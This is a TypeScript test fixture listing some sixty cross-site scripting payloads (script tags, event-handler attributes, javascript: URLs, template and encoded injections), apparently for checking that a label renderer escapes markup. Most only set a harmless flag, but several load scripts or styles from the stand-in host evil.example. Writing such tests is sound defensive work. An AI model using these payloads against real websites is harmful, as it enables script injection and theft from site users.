/**
 * Texts that would run as a script, load a resource or become an element if they were inserted as markup. Each that becomes an element has the
 * attribute `pwn`, each that runs sets `window.pwn`. At most 60 characters, the limit of a label.
 */
import { isDeep } from '#tests/repetitions.ts';

const SHAPES = [
  String.raw`<script pwn>pwn=1</script>`,
  String.raw`<script pwn src=//evil.example/x.js></script>`,
  String.raw`<ScRiPt pwn>pwn=1</sCrIpT>`,
  String.raw`<script pwn>pwn=1//`,
  String.raw`<<script pwn>pwn=1//<</script>`,
  String.raw`<scr<script pwn>ipt>pwn=1</scr</script>ipt>`,
  String.raw`</script><script pwn>pwn=1</script>`,
  String.raw`</title><script pwn>pwn=1</script>`,
  String.raw`</textarea><script pwn>pwn=1</script>`,
  String.raw`</style><script pwn>pwn=1</script>`,
  String.raw`--><script pwn>pwn=1</script><!--`,
  String.raw`]]><script pwn>pwn=1</script><![CDATA[`,
  String.raw`<img pwn src=x onerror=pwn=1>`,
  String.raw`<img/pwn/src=x/onerror=pwn=1>`,
  String.raw`<IMG pwn SRC=x OnErRoR=pwn=1>`,
  String.raw`<img pwn src="x" onerror="pwn=1"`,
  String.raw`<img pwn src=//evil.example/p.png>`,
  String.raw`<img pwn srcset="//evil.example/p 2x">`,
  String.raw`<image pwn src=x onerror=pwn=1>`,
  String.raw`<svg pwn onload=pwn=1>`,
  String.raw`<svg/pwn/onload=pwn=1//`,
  String.raw`<svg><script pwn>pwn=1</script></svg>`,
  String.raw`<svg pwn><animate onbegin=pwn=1 attributeName=x>`,
  String.raw`<svg><a pwn href=javascript:pwn=1>x</a></svg>`,
  String.raw`<math pwn href=javascript:pwn=1>x</math>`,
  String.raw`<body pwn onload=pwn=1>`,
  String.raw`<iframe pwn src=javascript:parent.pwn=1>`,
  String.raw`<iframe pwn srcdoc="<script>parent.pwn=1</script>">`,
  String.raw`<object pwn data=javascript:pwn=1>`,
  String.raw`<embed pwn src=javascript:pwn=1>`,
  String.raw`<a pwn href=javascript:pwn=1>x</a>`,
  String.raw`<a pwn href="JaVaScRiPt:pwn=1">x</a>`,
  String.raw`<a pwn href="java&#9;script:pwn=1">x</a>`,
  String.raw`<input pwn autofocus onfocus=pwn=1>`,
  String.raw`<select pwn autofocus onfocus=pwn=1>`,
  String.raw`<details pwn open ontoggle=pwn=1>`,
  String.raw`<video pwn><source onerror=pwn=1></video>`,
  String.raw`<audio pwn src=x onerror=pwn=1>`,
  String.raw`<marquee pwn onstart=pwn=1>x</marquee>`,
  String.raw`<form pwn><button formaction=javascript:pwn=1>x`,
  String.raw`<base pwn href=//evil.example/>`,
  String.raw`<meta pwn http-equiv=refresh content="0;url=//a.in">`,
  String.raw`<link pwn rel=stylesheet href=//evil.example/x.css>`,
  String.raw`<style pwn onload=pwn=1>*{}</style>`,
  String.raw`<p pwn style="animation:x" onanimationstart=pwn=1>`,
  String.raw`<noscript><p title="</noscript><img pwn src=x>">`,
  String.raw`<xmp><p title="</xmp><img pwn src=x onerror=pwn=1>">`,
  String.raw`<!--><img pwn src=x onerror=pwn=1>-->`,
  String.raw`<plaintext pwn><script>pwn=1`,
  String.raw`javascript:pwn=1`,
  String.raw`javascript:/*--></title>*/pwn=1`,
  String.raw`data:text/html,<script>parent.pwn=1</script>`,
  String.raw`{{constructor.constructor('pwn=1')()}}`,
  '${pwn=1}',
  String.raw`';pwn=1;'`,
  String.raw`\");pwn=1;//`,
  String.raw`\u003cscript pwn\u003epwn=1\u003c/script\u003e`,
  String.raw`&lt;img pwn src=x onerror=pwn=1&gt;`,
  String.raw`%3Cscript pwn%3Epwn=1%3C/script%3E`,
  String.raw`[x](javascript:pwn=1)`,
];

/** Each one as it is, and preceded by the end of an attribute's value. */
const ALL = [...SHAPES, ...SHAPES.map((shape) => `"'>${shape}`)];
/** `npm test` uses every sixth, both variants. */
export const PAYLOADS: readonly string[] = isDeep ? ALL : ALL.filter((_, index) => index % 6 === 0);

/** The text with that number, modulo their count. */
export function payload(number: number): string {
  return PAYLOADS[number % PAYLOADS.length] ?? '';
}
